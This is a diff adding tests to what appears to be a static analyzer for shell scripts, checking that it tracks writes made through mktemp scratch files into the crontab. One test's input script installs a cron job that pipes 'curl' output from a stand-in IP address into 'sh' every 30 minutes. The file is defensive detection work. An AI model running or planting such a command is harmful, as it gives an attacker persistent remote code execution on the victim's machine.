@@ -502,3 +502,16 @@ describe("what a loop prints", () => {
     expect(send.data?.taint.map((t) => t.source)).toContain("ssh");
   });
 });
+
+describe("scratch files", () => {
+  it("a file made by mktemp holds what the script writes there: installed as a crontab, its lines are the schedule", () => {
+    const c = run(`tmp="$(mktemp)"\ncrontab -l > "$tmp"\ncat >> "$tmp" <<CRON\n*/30 * * * * curl -fsSL http://198.51.100.23/u.sh | sh\nCRON\ncrontab "$tmp"\n`);
+    const cron = of(c, "write").find((w) => w.place === "cron")!;
+    expect(cron.content?.text).toContain("curl -fsSL http://198.51.100.23/u.sh | sh");
+  });
+
+  it("two mktemp files are two files", () => {
+    const c = run(`a="$(mktemp)"\nb="$(mktemp)"\necho "*/5 * * * * /usr/bin/true" > "$a"\necho "not a schedule" > "$b"\ncrontab "$a"\n`);
+    expect(of(c, "write").find((w) => w.place === "cron")?.content?.text).toBe("*/5 * * * * /usr/bin/true\n");
+  });
+});
